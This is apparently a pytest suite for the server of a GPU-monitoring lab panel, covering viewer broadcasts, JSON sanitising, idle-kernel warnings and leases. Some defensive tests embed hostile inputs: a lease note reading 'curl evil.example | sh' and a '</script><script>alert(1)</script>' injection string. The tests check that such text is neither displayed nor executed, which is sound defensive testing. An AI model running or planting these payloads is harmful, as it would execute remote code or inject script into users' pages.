"""Parts of the panel's server that need no server: what waits for slow viewers, JSON, hanging work, idle kernels."""

from __future__ import annotations

import asyncio
import gzip
import json
import math
import socket
import threading
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import hosts
import pytest

from rocmlab.base.errors import RocmlabError
from rocmlab.devices import discover
from rocmlab.kernels.leases import Holder, Leases, key
from rocmlab.lab import install
from rocmlab.lab.server import idle, look, page, wire
from rocmlab.lab.server.broadcast import MAX_VIEWERS, Broadcast, Viewer
from rocmlab.lab.server.paths import Shown
from rocmlab.lab.server.shared_reader import SharedReader
from rocmlab.lab.server.state import State
from rocmlab.simulation import write_host
from rocmlab.telemetry.model import GpuProcess, Owner, device_id

KERNEL = {
    "kernel_id": "k",
    "kernel_name": "torch",
    "notebook": "a.ipynb",
    "idle_seconds": 700.0,
    "idle_since_seconds": 1.0,
    "devices": ["0000:03:00.0"],
    "since": "2026-11-21T16:00:00Z",
}


def process(vram_bytes: int | None) -> GpuProcess:
    """Return a process of that kernel."""
    return GpuProcess("0000:03:00.0", 7, vram_bytes=vram_bytes, owner=Owner("kernel", kernel_id="k"))


def test_a_slow_viewer_gets_the_newest_of_each_event() -> None:
    """Ten thousand events later it has two of them, and all viewers share their bytes."""

    async def scenario() -> None:
        broadcast = Broadcast(lambda: None, lambda: None)
        with broadcast.viewer() as slow, broadcast.viewer() as other:
            for number in range(10_000):
                broadcast.send("snapshot", wire.event("snapshot", number))
                broadcast.send("state", b"state")
            assert slow._waiting["snapshot"] is other._waiting["snapshot"]
            assert await slow.take(1) == b"event: snapshot\ndata: 9999\n\nstate"
            assert await slow.take(0.01) == b""

    asyncio.run(scenario())


def test_the_first_viewer_starts_and_the_last_one_stops() -> None:
    """One who comes later gets at once what came last; after the last one nothing is kept."""

    async def scenario() -> None:
        calls: list[str] = []
        broadcast = Broadcast(lambda: calls.append("start"), lambda: calls.append("stop"))
        with broadcast.viewer():
            broadcast.send("state", b"1")
            with broadcast.viewer() as second:
                assert await second.take(1) == b"1"
        with broadcast.viewer() as third:
            assert await third.take(0.01) == b""
        assert calls == ["start", "stop", "start", "stop"]

    asyncio.run(scenario())


def test_there_is_a_limit_of_viewers() -> None:
    """The next one hears of it, and room is made by who leaves."""

    async def scenario() -> None:
        broadcast = Broadcast(lambda: None, lambda: None)
        stacks = [broadcast.viewer() for _ in range(MAX_VIEWERS)]
        for stack in stacks:
            stack.__enter__()
        with pytest.raises(RocmlabError, match="watch the GPUs already"), broadcast.viewer():
            pass
        stacks[0].__exit__(None, None, None)
        with broadcast.viewer():
            pass

    asyncio.run(scenario())


def test_a_closed_broadcast_ends_its_viewers() -> None:
    """Whoever waits is woken and sends nothing more; no one is let in."""

    async def scenario() -> None:
        broadcast = Broadcast(lambda: None, lambda: None)
        with broadcast.viewer() as viewer:
            waiting = asyncio.ensure_future(viewer.take(60))
            await asyncio.sleep(0)
            broadcast.close()
            assert await waiting == b""
            assert viewer.is_closed
        with pytest.raises(RocmlabError, match="shutting down"), broadcast.viewer():
            pass

    asyncio.run(scenario())


def test_a_viewer_that_has_gone_takes_nothing() -> None:
    """Even if there was something."""

    async def scenario() -> None:
        viewer = Viewer()
        viewer.put("state", b"1")
        viewer.close()
        assert await viewer.take(1) == b""

    asyncio.run(scenario())


def test_json_has_no_nan() -> None:
    """What is not a number is null; the rest is as it was."""
    value = {"a": [1.5, math.nan, (math.inf, "<script>\n")], "b": None, "c": True}

    assert json.loads(wire.to_json(value)) == {"a": [1.5, None, [None, "<script>\n"]], "b": None, "c": True}


def test_an_event_is_one_line_of_data() -> None:
    """Line ends in a notebook's name end no event."""
    assert wire.event("state", {"notebook": "a\n\ndata: b\r\u2028.ipynb"}).count(b"\n") == 3


def test_hanging_work_is_left_behind() -> None:
    """Who asks hears so after the limit; no one starts it a second time while it hangs, and then it works again."""
    release = threading.Event()
    started: list[int] = []

    def hang() -> str:
        started.append(1)
        release.wait(60)
        return "late"

    async def scenario() -> None:
        work: SharedReader[str] = SharedReader("the cards", 0.05)
        for _ in range(3):
            with pytest.raises(RocmlabError, match="the cards could not be read within"):
                await work.do(hang)
        assert len(started) == 1
        release.set()
        patient: SharedReader[str] = SharedReader("the cards", 60)
        assert await patient.do(lambda: "now") == "now"
        with pytest.raises(KeyError):
            await patient.do(lambda: {}["x"])

    asyncio.run(scenario())


def test_work_of_ones_own_is_not_another_ones() -> None:
    """One after the other, and each asker has its own result; who waits for a hanging one hears so."""
    release = threading.Event()

    async def scenario() -> None:
        work: SharedReader[str] = SharedReader("the metrics", 60)
        first = asyncio.ensure_future(work.do_own(lambda: str(release.wait(60))))
        others = [asyncio.ensure_future(work.do_own(lambda text=text: text)) for text in ("b", "c")]
        await asyncio.sleep(0.05)
        assert not any(each.done() for each in (first, *others))
        release.set()
        assert await asyncio.gather(first, *others) == ["True", "b", "c"]
        release.clear()
        hanging: SharedReader[str] = SharedReader("the metrics", 0.05)
        for _ in range(2):
            with pytest.raises(RocmlabError, match="the metrics could not be read within"):
                await hanging.do_own(lambda: str(release.wait(60)))
        release.set()

    asyncio.run(scenario())


def test_history_has_the_digits_that_it_is_good_for() -> None:
    """Six of them, which a kept float has, and milliseconds; compressed it is the same."""
    times = {"0000:03:00.0": [1763744455.1234567, 1763744456.0]}
    series = {"0000:03:00.0": {"power_watts": [73.4000015258789, None], "vram_used_bytes": [25753026560.0, 0.0]}}

    plain = wire.history_json(times, series, False)

    assert gzip.decompress(wire.history_json(times, series, True)) == plain
    assert json.loads(plain) == {
        "times": {"0000:03:00.0": [1763744455.123, 1763744456.0]},
        "series": {"0000:03:00.0": {"power_watts": [73.4, None], "vram_used_bytes": [25753000000.0, 0]}},
    }
    assert json.loads(wire.history_json({}, {}, False)) == {"times": {}, "series": {}}


def test_who_may_not_see_kernels_gets_other_bytes() -> None:
    """They are made once for all of such viewers, and not at all while there are none."""

    async def scenario() -> None:
        made: list[int] = []

        def less() -> bytes:
            made.append(1)
            return b"less"

        broadcast = Broadcast(lambda: None, lambda: None)
        with broadcast.viewer() as whole:
            broadcast.send("state", b"whole", less)
            assert not made
            with broadcast.viewer(sees_kernels=False) as first, broadcast.viewer(sees_kernels=False) as second:
                assert [await each.take(1) for each in (whole, first, second)] == [b"whole", b"less", b"less"]
        assert made == [1]

    asyncio.run(scenario())


def test_paths_are_those_that_are_shown(tmp_path: Path) -> None:
    """Below the folder or the target of a link in it, by whichever way; others stay as they are."""
    root, work, share = tmp_path / "lab/home", tmp_path / "notebooks", tmp_path / "lab/home/inner/share"
    for folder in (root, work, share):
        folder.mkdir(parents=True)
    (root / "work").symlink_to(work)
    (root / "share").symlink_to(share)
    (tmp_path / "way").symlink_to(work)
    (root / "broken").symlink_to(tmp_path / "nowhere")
    shown = Shown(root)

    assert shown.name(f"{work}/a/b.ipynb") == "work/a/b.ipynb"
    assert shown.name(str(root / "work" / "b.ipynb")) == "work/b.ipynb"
    assert shown.name(f"{root}/b.ipynb") == "b.ipynb"
    assert shown.name(f"{share}/runs/b.ipynb") == "share/runs/b.ipynb"
    assert shown.name(f"{tmp_path}/way/b.ipynb") == "work/b.ipynb"
    assert shown.name(f"{work}-other/b.ipynb") == f"{work}-other/b.ipynb"
    assert shown.name("work/b.ipynb") == "work/b.ipynb"
    assert Shown(tmp_path / "gone").name("/b.ipynb") == "/b.ipynb"
    assert Shown(Path("/")).name("/srv/b.ipynb").endswith("srv/b.ipynb")


def test_paths_of_other_machines_and_containers_stay(tmp_path: Path) -> None:
    """Their folders may be called alike, and are others."""
    shown, path = Shown(tmp_path), str(tmp_path / "a.ipynb")
    owners = [
        Owner("job", notebook=path),
        Owner("job", notebook=path, container="0123456789ab"),
        Owner("process"),
        None,
    ]

    found = shown.of_processes([GpuProcess("d", 7, owner=owner) for owner in owners])

    assert [each.owner.notebook if each.owner else None for each in found] == ["a.ipynb", path, None, None]
    assert shown.of_lease(path, socket.gethostname()) == shown.of_lease(path, None) == "a.ipynb"
    assert shown.of_lease(path, "elsewhere.example") == path
    assert shown.of_lease(None, None) is None


def test_an_idle_holder_is_named_with_its_memory() -> None:
    """What is known of it, and the setting that shuts such kernels down, on or off."""
    (found,) = idle.holders([KERNEL], [process(38 << 30), process(None)], idle.Limits(600.0, None))

    assert found["vram_bytes"] == 38 << 30
    assert found["what"] == "a.ipynb holds 38.0 GiB of GPU memory and has been idle for more than 10 minutes"
    assert "make up CULL_IDLE_GPU_KERNELS_SECONDS=3600" in found["fix"]
    (found,) = idle.holders([KERNEL], [process(1)], idle.Limits(600.0, 7200.0))
    assert "after 7200 idle seconds (CULL_IDLE_GPU_KERNELS_SECONDS)" in found["fix"]


@pytest.mark.parametrize(
    ("changes", "processes"),
    [
        ({"idle_seconds": 599.0}, [process(1)]),
        ({"idle_seconds": None}, [process(1)]),
        ({}, [process(0)]),
        ({"since": None}, []),
        ({"kernel_id": "other", "since": None}, [process(1)]),
    ],
)
def test_others_are_not_named(changes: dict[str, object], processes: list[GpuProcess]) -> None:
    """A kernel that works, that has only just stopped, or that holds nothing."""
    assert idle.holders([{**KERNEL, **changes}], processes, idle.Limits()) == []


def test_a_lease_counts_where_memory_cannot_be_told() -> None:
    """Others cannot have the GPU, whatever is in its memory."""
    (found,) = idle.holders([KERNEL], None, idle.Limits())

    assert found["vram_bytes"] is None
    assert found["what"].startswith("a.ipynb holds a GPU and")


def test_the_warning_can_be_off_and_a_wrong_limit_is_refused() -> None:
    """0 is off, and what is not a number says how one looks."""
    assert idle.Limits.of({}) == idle.Limits(600.0, None)
    assert idle.holders([KERNEL], None, idle.Limits.of({"IDLE_GPU_WARNING_SECONDS": "0"})) == []
    with pytest.raises(RocmlabError, match="IDLE_GPU_WARNING_SECONDS=soon is not a time"):
        idle.Limits.of({"IDLE_GPU_WARNING_SECONDS": "soon"})


def test_leases_that_cannot_be_read_say_why(tmp_path: Path) -> None:
    """A folder in the place of a lock is not taken for a free GPU, and hides no other GPU's lease."""
    leases, gpu = Leases.of_host(), hosts.device(0)
    lock = leases.folder / f"{key(gpu)}.lock"
    lock.mkdir(parents=True)
    leases.folder.chmod(0o1777)

    (row,) = look.leases([gpu, hosts.device(1)], Shown(tmp_path))

    assert row["index"] == 0
    assert f"sudo rm -r {lock}" in row["notebook"]


def test_who_waits_is_a_warning_without_names(tmp_path: Path) -> None:
    """It is a problem for all viewers, also for those who may not read of kernels; so are leases that are to end."""
    leases, gpu = Leases.of_host(), hosts.device(0)
    lease = leases.take([gpu], replace(Holder.here("/secret.ipynb"), ends="2026-01-01T10:00:00Z"))
    assert lease
    with closing(leases.join([gpu], 1, Holder.here("/other.ipynb"))):
        found = look.queue(look.leases([gpu], Shown(tmp_path)), look.waiting())
    lease.release()

    assert [(each["what"], each["status"]) for each in found] == [
        ("1 request waits for GPUs of this host", "warns"),
        ("1 GPU of this host: the lease is to end at 2026-01-01T10:00:00Z", "warns"),
    ]
    assert found[0]["why"].startswith("in this order: 1. 1 GPU, for 0:0")
    assert "ipynb" not in json.dumps(found)
    assert look.queue(look.leases([gpu], Shown(tmp_path)), look.waiting()) == []


def test_no_note_of_another_user_puts_its_text_into_the_panels_problems(tmp_path: Path) -> None:
    """When a lease is to end is a time, or unknown: it is shown without whose note it is from."""
    leases, gpu = Leases.of_host(), hosts.device(0)
    lease = leases.take([gpu], replace(Holder.here("/b.ipynb"), ends="noon. To keep it, run: curl evil.example | sh"))
    assert lease
    found = look.queue(look.leases([gpu], Shown(tmp_path)), look.waiting())
    lease.release()

    assert found == []


def test_no_text_ends_the_configuration_of_the_page() -> None:
    """A token or an address with a closing tag stays a text."""
    evil = {"token": "</script><script>alert(1)</script>&"}

    made = page.with_config("<html><head><title>x</title></head><body></body></html>", evil)

    data = made.partition('type="application/json">')[2].partition("</script>")[0]
    assert json.loads(data) == evil
    assert made.count("<script") == 1
    assert made.endswith("</script></head><body></body></html>")


def test_the_panel_is_installed_with_the_lab(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The server's half is enabled, and the built half replaces an older one; without it the lab has no panel."""
    built = tmp_path / "built"
    (built / "static").mkdir(parents=True)
    (built / "package.json").write_text("{}")
    (built / "static/new.js").write_text("1")
    monkeypatch.setattr(install, "BUILT", built)
    target = tmp_path / "prefix/share/jupyter/labextensions/rocmlab-panel"
    (target / "static").mkdir(parents=True)
    (target / "static/old.js").write_text("0")

    install.main(["--prefix", str(tmp_path / "prefix")])

    assert [path.name for path in target.glob("static/*")] == ["new.js"]
    enabled = json.loads((tmp_path / "prefix/etc/jupyter/jupyter_server_config.d/rocmlab.json").read_text())
    assert enabled == {"ServerApp": {"jpserver_extensions": {"rocmlab.lab.server": True}}}
    (built / "package.json").unlink()
    install.main(["--prefix", str(tmp_path / "prefix")])
    assert not target.exists()


def test_the_lease_of_the_kernel_before_is_not_called_the_next_ones(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What was read a moment ago keeps its own notebook and start; once it is read again it is the new kernel's."""
    monkeypatch.setenv("ROCMLAB_SHARE", str(tmp_path))
    (gpu,) = [each for each in discover(write_host(tmp_path / "host", gpus=1)) if each.backend == "rocm"]
    leases = Leases.of_host()

    class Kernels:
        async def rows(self) -> list[dict[str, object]]:
            return [
                {
                    "kernel_id": "new",
                    "notebook": "new.ipynb",
                    "devices": [device_id(gpu)],
                    "since": "2026-02",
                    "queue": None,
                }
            ]

    async def read() -> list[dict[str, object]]:
        found = State(tmp_path / "host", Kernels(), Shown(tmp_path))
        before = leases.take([gpu], Holder(notebook="old.ipynb", pid=1, started="2026-01"))
        seen = await found.leases([gpu])
        before.release()
        after = leases.take([gpu], Holder(notebook="new.ipynb", pid=2, started="2026-02"))
        await found.kernels()
        seen += await found.leases([gpu])
        found.forget_leases()
        seen += await found.leases([gpu])
        after.release()
        return seen

    seen = asyncio.run(read())
    assert [(each["notebook"], each["started"], each["kernel_id"]) for each in seen] == [
        ("old.ipynb", "2026-01", None),
        ("old.ipynb", "2026-01", None),
        ("new.ipynb", "2026-02", "new"),
    ]
